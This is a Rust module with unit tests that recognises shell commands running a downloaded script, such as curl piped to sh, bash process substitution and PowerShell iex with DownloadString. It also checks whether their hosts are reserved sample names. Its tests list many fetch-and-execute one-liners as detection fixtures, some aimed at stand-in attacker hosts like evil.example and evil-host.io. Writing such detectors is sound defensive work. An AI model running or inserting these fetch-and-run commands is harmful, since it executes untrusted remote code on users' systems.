//! Recognizes shell commands that run a downloaded script: `curl … | sh`, `bash <(curl …)`.

use crate::capabilities::hosts::is_reserved;

/// Maximum number of bytes that are read as the name of a command. Without it, a megabyte without
/// a space would be read again from each of its brackets.
const LONGEST_NAME: usize = 24;
/// Programs that run the command that follows them.
const WRAPPERS: [&str; 5] = ["sudo", "env", "exec", "command", "nohup"];

/// Whether a text has a downloader in one of its usual spellings. Most pages have none, and this
/// search is faster than reading each command.
pub(crate) fn names_downloader(text: &str) -> bool {
    const SPELLINGS: [&str; 12] = [
        "curl",
        "Curl",
        "CURL",
        "wget",
        "Wget",
        "WGET",
        "iwr",
        "IWR",
        "irm",
        "IRM",
        "nvoke-",
        "DownloadString",
    ];
    SPELLINGS.iter().any(|spelling| text.contains(spelling))
}

/// Whether RFC 2606 reserves all hosts of a command, as in `curl https://example.org/i | sh`. No one can register
/// them.
pub(crate) fn has_only_reserved_hosts(command: &str) -> bool {
    let mut words = command
        .split(|c: char| c.is_whitespace() || "\"'`()<>|".contains(c))
        .filter(|word| word.contains(['.', '$', ':', '/']) && *word != "$")
        .peekable();
    words.peek().is_some()
        && words.all(|word| {
            let rest = word.split_once("://").map_or(word, |(_, rest)| rest);
            let host = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
            let is_host = |c: char| c.is_ascii_alphanumeric() || ".-".contains(c);
            host.chars().all(is_host) && is_reserved(&host.to_ascii_lowercase())
        })
}

/// Whether a text has a pipe or a bracket, as each of these commands has.
pub(crate) fn may_run_download(text: &str) -> bool {
    memchr::memchr2(b'|', b'(', text.as_bytes()).is_some()
}

pub(crate) fn runs_download(command: &str) -> bool {
    let command = command.trim_matches('`');
    // Most commands have neither, and the search for words is slow.
    may_run_download(command)
        && (pipes_download(command) || substitutes_download(command) || evaluates_download(command))
}

/// `curl … | sh`, `curl … | gunzip | sudo bash -s`, not `curl … || sh x` or `curl … | sh -n`.
fn pipes_download(command: &str) -> bool {
    let mut flows = false;
    for part in command.split('|') {
        // In a table cell, the bar is written `\|`.
        let part = part.trim_end_matches('\\');
        let mut pieces = part.split([';', '&']);
        if flows && pieces.next().is_some_and(is_shell) {
            return true;
        }
        let last = pieces.next_back();
        flows = match last {
            _ if part.trim().is_empty() => false,
            Some(last) => is_download(last),
            None => flows || is_download(part),
        };
    }
    false
}

fn is_download(piece: &str) -> bool {
    let mut words = piece
        .split_whitespace()
        .skip_while(|word| !is_downloader(word));
    words.next().is_some() && words.any(is_address)
}

pub(crate) fn is_downloader(word: &str) -> bool {
    // `X="$(curl` and `os.system("curl`.
    let name = word.rsplit(['(', '"', '\'', '`', '*']).next();
    let name = name.unwrap_or_default();
    matches!(
        name.to_ascii_lowercase().as_str(),
        "curl" | "wget" | "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod"
    )
}

/// Whether a word is an address. `curl … | sh` without one only talks about such commands.
fn is_address(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'', ')']);
    let is_option = word.starts_with('-');
    let is_elided = word.trim_matches(['.', '…']).is_empty();
    !is_option && !is_elided && word.contains(['.', '$', '<', '{', '/'])
}

pub(crate) fn is_shell(piece: &str) -> bool {
    let mut words = piece
        .split_whitespace()
        .skip_while(|word| WRAPPERS.contains(word) || word.starts_with('-') || word.contains('='));
    let Some(program) = words.next() else {
        return false;
    };
    match words.next() {
        // `-n` only checks the syntax, and `-c` runs its argument.
        Some("-n" | "-c") => false,
        // `python3 -m json.tool` and `node script.js` read data.
        None | Some("-") => names_shell(program) || names_interpreter(program),
        Some(_) => names_shell(program),
    }
}

pub(crate) fn names_shell(word: &str) -> bool {
    matches!(
        program_name(word).as_str(),
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" | "pwsh" | "iex" | "invoke-expression"
    )
}

fn names_interpreter(word: &str) -> bool {
    matches!(
        program_name(word).as_str(),
        "python" | "python3" | "node" | "perl" | "ruby" | "php"
    )
}

pub(crate) fn program_name(word: &str) -> String {
    let name = word.trim_matches(['"', '\'', '`', ')', '(', ',', '}', ']', '\\']);
    // The end of a sentence.
    let name = name.trim_end_matches(['.', ':', '*', '!', '?']);
    let name = name.rsplit('/').next().unwrap_or_default();
    name.to_ascii_lowercase()
}

/// `iex ((New-Object Net.WebClient).DownloadString('…'))`.
fn evaluates_download(command: &str) -> bool {
    let Some((before, _)) = command.split_once(".DownloadString(") else {
        return false;
    };
    let mut words = before.split([' ', '(', ';', '&', '"']);
    words.any(|word| matches!(program_name(word).as_str(), "iex" | "invoke-expression"))
}

/// `bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget …)"`, `iex (iwr …)`.
fn substitutes_download(command: &str) -> bool {
    let opens = command.match_indices('(').map(|(at, _)| at);
    let mut downloads = opens.filter(|at| {
        let inside = command[at + 1..].trim_start();
        let name = &inside[..inside.floor_char_boundary(LONGEST_NAME)];
        let begins = name.starts_with(|c: char| c.is_ascii_alphabetic());
        begins && name.split_whitespace().next().is_some_and(is_downloader)
    });
    downloads.any(|at| {
        let before = command[..at].trim_end_matches(['<', '$', '"', '\'', '(', ' ', '\\']);
        let mut words = before.split_whitespace().rev();
        match words.next() {
            Some("eval" | "source" | ".") => true,
            Some("-c" | "-lc" | "-ec") => words
                .next()
                .is_some_and(|program| names_shell(program) || names_interpreter(program)),
            Some("-e") => words.next().is_some_and(names_interpreter),
            Some(word) => names_shell(word),
            None => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloaded_and_run_script_is_found() {
        for command in [
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            "curl -fsSL https://x.y/i | sudo -E bash -",
            "wget -qO- https://x.y/i | FOO=1 /bin/bash -s -- --yes",
            "curl https://x.y/i.gz | gunzip | zsh",
            "cd x && curl https://x.y/i | bash && echo done",
            "bash <(curl -s https://x.y/i)",
            "sh -c \"$(curl -fsSL https://x.y/i)\"",
            "eval \"$(wget -qO- https://x.y/i)\"",
            "irm https://x.y/i.ps1 | iex",
            "iex (iwr https://x.y/i.ps1)",
            "curl https://x.y/i \\| sh",
            "curl \"$URL\" | sh",
            "curl -sSL https://x.y/i.py | python3 -",
            "curl -sSL https://x.y/i.py | python3",
            "python -c \"$(curl -fsSL https://x.y/i.py)\"",
            "ruby -e \"$(curl -fsSL https://x.y/install)\"",
            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.y/i.ps1'))",
        ] {
            assert!(runs_download(command), "{command}");
        }
    }

    #[test]
    fn script_that_is_only_downloaded_or_only_run_is_allowed() {
        for command in [
            "curl https://x.y/a.json | jq .",
            "curl https://x.y/a | python3 -m json.tool",
            "curl https://x.y/a | python3 -c 'import json'",
            "curl https://x.y/a | node parse.js",
            "$text = (New-Object Net.WebClient).DownloadString('https://x.y/a')",
            "curl -o i.sh https://x.y/i.sh && sh i.sh",
            "curl https://x.y/i || sh fallback.sh",
            "curl https://x.y/i | sh -n",
            "curl https://x.y/i -o i; echo ls | sh",
            "curl … | sh",
            "curl | bash",
            "echo ls | sh",
            "X=$(curl https://x.y/v)",
            "grep 'curl.*| *sh' x",
        ] {
            assert!(!runs_download(command), "{command}");
        }
    }

    #[test]
    fn only_reserved_hosts_are_samples() {
        for command in [
            "curl https://example.org/i | sh",
            "bash <(curl -s https://evil.example/i.sh)",
            "sh -c \"$(curl -fsSL http://x.test)\"",
        ] {
            assert!(has_only_reserved_hosts(command), "{command}");
        }
        for command in [
            "curl https://evil.example.io/i | sh",
            "curl https://evil-host.io/i | sh",
            "curl https://example.org.acme.io/i | sh",
            "curl https://example.org@acme.io/i | sh",
            "curl https://example.org:x@acme.io/i | sh",
            "curl $URL -H example.org | sh",
            "curl https://acme.io/i?example.org | sh # example.org",
            "curl https://example.org/i -x acme.io | sh",
            "curl https://example.org/i; curl acme.io/x | sh",
        ] {
            assert!(!has_only_reserved_hosts(command), "{command}");
        }
    }
}
